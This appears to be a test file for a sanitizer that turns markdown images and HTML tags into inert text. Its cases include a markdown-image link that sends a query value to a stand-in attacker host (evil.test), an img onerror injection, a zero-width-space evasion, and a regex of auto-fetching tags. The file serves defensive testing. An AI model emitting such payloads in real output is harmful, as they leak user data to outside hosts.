"""An answer fetches nothing where it is shown."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from understudy.core.shown import inert

AUTOMATIC = re.compile(r"!\[|<(?:img|script|iframe|svg|video|link)\b", re.I)
pieces = st.lists(
    st.sampled_from(["![", "[", "]", "(", ")", "!", "<", "IMG src=", "img ", ">", "http://x/", "\u200b", " ", "a"])
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![status](http://evil.test/?q=name)", "status http://evil.test/?q=name"),
        ("See ![a][ref] and ![](b.png).", "See a ref and b.png."),
        ("![a[b]](http://evil.test)", "! [a[b]](http://evil.test)"),
        ("!\u200b[x](y)", "x y"),
        ("<img src=x onerror=y> and <SCRIPT>", "< img src=x onerror=y> and < SCRIPT>"),
        ("EUR 412.6 million [1], see https://example.org!", "EUR 412.6 million [1], see https://example.org!"),
    ],
)
def test_images_and_other_fetching_parts(text: str, shown: str) -> None:
    assert inert(text) == shown


@settings(deadline=None)
@given(pieces.map("".join))
def test_nothing_is_left_that_fetches_by_itself(text: str) -> None:
    assert not AUTOMATIC.search(inert(text))
